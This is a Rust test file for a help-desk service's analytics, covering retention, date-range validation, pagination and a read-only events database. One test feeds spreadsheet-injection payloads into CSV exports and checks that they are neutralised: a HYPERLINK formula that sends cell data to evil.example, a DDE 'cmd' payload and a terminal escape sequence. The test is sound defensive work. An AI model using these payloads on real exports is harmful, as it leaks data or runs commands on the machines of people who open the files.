//! The events side of the attack run (issue 17): retention, the insights' memory, range and
//! lists, customer text in CSV exports, and a read-only events database.

use axum::http::StatusCode;
use crate::common::*;

#[tokio::test]
async fn retention_of_zero_days_is_off_and_keeps_every_row() {
    let mut config = config(sample_index());
    config.retention_days = 0;
    let snapshot = kotae_core::Snapshot::open(&kotae_core::IndexRoot::new(sample_index()), analyzer()).unwrap();
    let s = kotae_server::AppState::new(config, analyzer().clone(), snapshot);
    let store = s.events.store().unwrap().clone();
    let now = kotae_events::now();
    for (ts, text) in [(now - 3_000 * 86_400, "old"), (now - 86_400, "recent"), (now, "now")] {
        store
            .record_question(&kotae_events::Question { ts, session: None, search_id: None, article: None, query: None, question: text.into(), contact: None })
            .unwrap();
        store.record_all(&[kotae_events::Event::View { ts, session: None, search_id: None, article: text.into() }]).unwrap();
    }
    let task = kotae_server::events::spawn_retention(s.clone());
    // Retention runs at start when it is on; off, the task has nothing to do and ends.
    let ended = tokio::time::timeout(std::time::Duration::from_secs(3), task).await;
    assert!(ended.is_ok(), "with retention off the task ends instead of deleting daily");
    assert_eq!(store.count("questions", "").unwrap(), 3, "questions are kept");
    assert_eq!(store.count("events", "").unwrap(), 3, "events are kept");
}

fn store(s: &kotae_server::AppState) -> std::sync::Arc<kotae_events::Store> {
    s.events.sqlite().expect("an events database").clone()
}

/// `n` questions over the last hours, each with a numbered marker, in one transaction.
fn seed_questions(s: &kotae_server::AppState, n: usize) {
    let now = kotae_events::now();
    store(s)
        .with(|c| {
            let tx = c.transaction()?;
            for i in 0..n {
                tx.execute(
                    "INSERT INTO questions (ts, question, contact) VALUES (?1, ?2, NULL)",
                    kotae_events::rusqlite::params![now - 3_600 - i as i64, format!("marker-{i:05} 返品できますか")],
                )?;
            }
            tx.commit()?;
            Ok(())
        })
        .unwrap();
}

fn japanese(text: &str) -> bool {
    text.chars().any(|c| ('\u{3040}'..='\u{30ff}').contains(&c) || ('\u{4e00}'..='\u{9fff}').contains(&c))
}

#[tokio::test]
async fn insights_answer_400_in_japanese_for_extreme_unparsable_and_too_long_ranges() {
    let s = state();
    let refused = [
        "to=%2B262142-12-31",
        "from=%2B262142-12-31&to=%2B262142-12-31",
        "from=-262143-01-01",
        "from=-262143-01-01&to=-262143-01-01",
        "to=-262143-01-01",
        "from=0000-01-01&to=0000-12-31",
        "from=1969-12-31&to=1970-01-10",
        "from=10000-01-01&to=10000-01-02",
        "from=0001-01-01",
        "from=2024-01-01&to=2025-01-01",
        "from=2026-13-45",
        "to=yesterday",
        "from=2026-11-02&to=2026-11-01",
        "page=0",
        "page=-1",
        "page=99999999999999999999999",
        "page=abc",
    ];
    for query in refused {
        let page = get_as_operator(&s, &format!("/ops/insights?{query}")).await;
        assert_eq!(page.status, StatusCode::BAD_REQUEST, "{query}: {}", page.body);
        assert!(page.body.contains(r#"role="alert""#), "{query}: the page says what is wrong");
        assert!(page.body.contains(r#"name="from""#), "{query}: with the form to try again");
        let csv = get_as_operator(&s, &format!("/ops/insights.csv?report=top_queries&{query}")).await;
        assert_eq!(csv.status, StatusCode::BAD_REQUEST, "{query}: {}", csv.body);
        let message = csv.json()["error"]["message"].as_str().unwrap().to_string();
        assert!(japanese(&message), "{query}: {message}");
    }
    let long = get_as_operator(&s, "/ops/insights.csv?from=1970-01-01&to=2026-11-01").await;
    assert!(long.json()["error"]["message"].as_str().unwrap().contains("366日以内"), "{}", long.body);

    let accepted = [
        "from=1970-01-01&to=1970-01-31",
        "to=1970-01-05",
        "from=9999-12-01&to=9999-12-31",
        "from=2024-01-01&to=2024-12-31",
        "from=2025-01-01&to=2025-12-31",
        "from=%202026-11-01%20&to=2026-11-30",
        "page=3",
    ];
    for query in accepted {
        assert_eq!(get_as_operator(&s, &format!("/ops/insights?{query}")).await.status, StatusCode::OK, "{query}");
        let csv = get_as_operator(&s, &format!("/ops/insights.csv?report=questions&{query}")).await;
        assert_eq!(csv.status, StatusCode::OK, "{query}");
    }
}

#[tokio::test]
async fn the_insights_list_questions_a_page_at_a_time() {
    let s = state();
    seed_questions(&s, 1_050);
    let markers = |body: &str| body.matches("marker-").count();

    let first = get_as_operator(&s, "/ops/insights").await;
    assert_eq!(first.status, StatusCode::OK);
    assert_eq!(markers(&first.body), 50, "one page of questions");
    assert!(first.body.contains("marker-00000") && !first.body.contains("marker-00050"), "newest first");
    assert!(first.body.contains("全1050件中 1〜50件目"), "the total and the rows shown");
    assert!(first.body.contains("page=2#questions"), "a link to the next page");
    assert!(first.body.len() < 200_000, "the page stays small: {} bytes", first.body.len());

    let page21 = get_as_operator(&s, "/ops/insights?page=21").await;
    assert_eq!(markers(&page21.body), 50);
    assert!(page21.body.contains("marker-01000") && page21.body.contains("marker-01049"));
    assert!(page21.body.contains("page=20#questions") && !page21.body.contains("page=22#questions"));
    let beyond = get_as_operator(&s, "/ops/insights?page=40").await;
    assert_eq!(beyond.status, StatusCode::OK);
    assert_eq!(markers(&beyond.body), 0);
    assert!(beyond.body.contains("page=21#questions"), "a way back to the last page");

    // CSV exports of the questions: 1,000 rows a page.
    assert!(first.body.contains("/ops/insights.csv?report=questions&amp;from=") && first.body.contains("&amp;page=2\">2</a>"));
    let csv1 = get_as_operator(&s, "/ops/insights.csv?report=questions").await;
    assert_eq!(csv1.status, StatusCode::OK);
    assert_eq!(markers(&csv1.body), 1_000);
    let csv2 = get_as_operator(&s, "/ops/insights.csv?report=questions&page=2").await;
    assert_eq!(markers(&csv2.body), 50);
    assert!(csv2.body.contains("marker-01049"));
    assert!(csv2.headers["content-disposition"].to_str().unwrap().ends_with("-2.csv\""));
}

#[tokio::test]
async fn customer_text_in_csv_exports_cannot_start_a_formula() {
    let s = state();
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"クリック")"#;
    let body = serde_urlencoded::to_string([("question", formula), ("q", "@SUM(1+1)")]).unwrap();
    let request = axum::http::Request::post("/questions")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(axum::body::Body::from(body))
        .unwrap();
    assert_eq!(send(&s, request).await.status, StatusCode::OK);
    let now = kotae_events::now();
    let searches: Vec<kotae_events::Event> = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB", "=1+1", "\u{1b}]0;pwned\u{7}\u{1b}[2J"]
        .iter()
        .enumerate()
        .map(|(i, q)| {
            kotae_events::Event::Search(kotae_events::Search {
                id: format!("f{i}"),
                ts: now - 60,
                session: None,
                prev: None,
                query: q.to_string(),
                normalized: q.to_string(),
                source: "help".into(),
                audience: "public".into(),
                hits: 0,
                top_ids: Vec::new(),
                latency_ms: 1,
            })
        })
        .collect();
    store(&s).record_all(&searches).unwrap();

    let questions = get_as_operator(&s, "/ops/insights.csv?report=questions").await;
    assert_eq!(questions.status, StatusCode::OK);
    assert!(questions.body.contains(r#""'=HYPERLINK(""http://evil.example/?x=""&A1,""クリック"")""#), "{}", questions.body);
    assert!(questions.body.contains("'@SUM(1+1)"), "{}", questions.body);
    for section in ["top_queries", "zero_results"] {
        let csv = get_as_operator(&s, &format!("/ops/insights.csv?report={section}")).await;
        let b = &csv.body;
        for cell in ["'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\tTAB", "'=1+1"] {
            assert!(b.contains(cell), "{section}: {cell:?} in {b}");
        }
        assert!(!b.contains('\u{1b}') && !b.contains('\u{7}'), "{section}: control characters are escaped: {b:?}");
        assert!(b.contains(r"\x1b]0;pwned\x07\x1b[2J"), "{section}: {b:?}");
        for line in b.lines() {
            for cell in line.split(',') {
                let cell = cell.trim_start_matches('"');
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{section}: a cell starts a formula: {line:?}");
            }
        }
    }
}

#[tokio::test]
async fn insights_requests_at_once_share_one_computation() {
    let s = state();
    seed_questions(&s, 120);
    let uri = "/ops/insights?page=2";
    let (a, b, c, d) = tokio::join!(get_as_operator(&s, uri), get_as_operator(&s, uri), get_as_operator(&s, uri), get_as_operator(&s, uri));
    for r in [&a, &b, &c, &d] {
        assert_eq!(r.status, StatusCode::OK);
        assert!(r.body.contains("全120件中 51〜100件目"), "each gets its page of questions");
    }
    assert_eq!(s.events.reports_computed(), 1, "the figures were computed once for the four");
    let today = chrono::Utc::now().date_naive();
    let ranges: Vec<String> = (1..=3).map(|d| format!("/ops/insights?from={}&to={today}", today - chrono::Days::new(d))).collect();
    let (x, y, z) = tokio::join!(get_as_operator(&s, &ranges[0]), get_as_operator(&s, &ranges[1]), get_as_operator(&s, &ranges[2]));
    assert!([x, y, z].iter().all(|r| r.status == StatusCode::OK));
    assert_eq!(s.events.reports_computed(), 4, "other ranges are computed, one after the other");
}

/// Where [`open_events_as_the_service_does`] opens the events database, in a child process.
const READ_ONLY_DB: &str = "KOTAE_TEST_READ_ONLY_DB";
/// The user a child runs as when the tests run as root (who can write any file): nobody.
const NOBODY: u32 = 65_534;

/// Run in a child process only (this binary, this test): open the events database at
/// `$KOTAE_TEST_READ_ONLY_DB` as the service does at start, and say what happened.
#[test]
fn open_events_as_the_service_does() {
    if let Some(path) = std::env::var_os(READ_ONLY_DB) {
        let config = kotae_server::Config { events_db: Some(path.into()), ..kotae_server::Config::default() };
        match kotae_server::events::Events::open(&config) {
            Ok(_) => println!("OPENED"),
            Err(e) => println!("REFUSED: {e:#}"),
        }
    }
}

/// Leave `-wal` and `-shm` files beside `db`, as a process killed while writing does.
fn leave_stale_wal(db: &std::path::Path) {
    let with = |suffix: &str| std::path::PathBuf::from(format!("{}{suffix}", db.display()));
    let conn = kotae_events::connect(db).unwrap();
    conn.execute_batch("PRAGMA wal_autocheckpoint = 0; INSERT INTO questions (ts, question) VALUES (1, 'in the wal');").unwrap();
    for suffix in ["", "-wal", "-shm"] {
        std::fs::copy(with(suffix), with(&format!("{suffix}.copy"))).unwrap();
    }
    drop(conn);
    for suffix in ["", "-wal", "-shm"] {
        std::fs::rename(with(&format!("{suffix}.copy")), with(suffix)).unwrap();
    }
    assert!(with("-wal").exists() && with("-shm").exists());
}

#[test]
fn a_read_only_events_database_is_refused_at_start_with_or_without_stale_wal_files() {
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;

    let root = std::fs::metadata("/proc/self").map(|m| std::os::unix::fs::MetadataExt::uid(&m) == 0).unwrap_or(false);
    for stale in [false, true] {
        let dir = tempfile::tempdir().unwrap();
        // The folder stays writable: SQLite could make -wal and -shm files there.
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
        let db = dir.path().join("events.sqlite3");
        let store = kotae_events::Store::open(&db).unwrap();
        store
            .record_question(&kotae_events::Question { ts: 1, session: None, search_id: None, article: None, query: None, question: "kept".into(), contact: None })
            .unwrap();
        drop(store);
        if stale {
            leave_stale_wal(&db);
            if root {
                // Left by the service's own user, who can still write them.
                for suffix in ["-wal", "-shm"] {
                    std::os::unix::fs::chown(format!("{}{suffix}", db.display()), Some(NOBODY), Some(NOBODY)).unwrap();
                }
            }
        }
        std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o444)).unwrap();

        let mut child = std::process::Command::new(std::env::current_exe().unwrap());
        child.args(["--exact", "attack_events::open_events_as_the_service_does", "--nocapture", "--test-threads", "1"]).env(READ_ONLY_DB, &db);
        if root {
            child.uid(NOBODY).gid(NOBODY);
        }
        let out = match child.output() {
            Ok(out) => out,
            Err(e) => {
                eprintln!("skipped: cannot run a child as another user ({e})");
                return;
            }
        };
        let said = String::from_utf8_lossy(&out.stdout);
        let case = if stale { "with stale -wal/-shm files" } else { "without -wal/-shm files" };
        assert!(said.contains("REFUSED"), "{case}: the service must refuse a read-only events database: {said}");
        assert!(said.contains("read-only") && said.contains(&db.display().to_string()), "{case}: the message says why and where: {said}");
    }
}
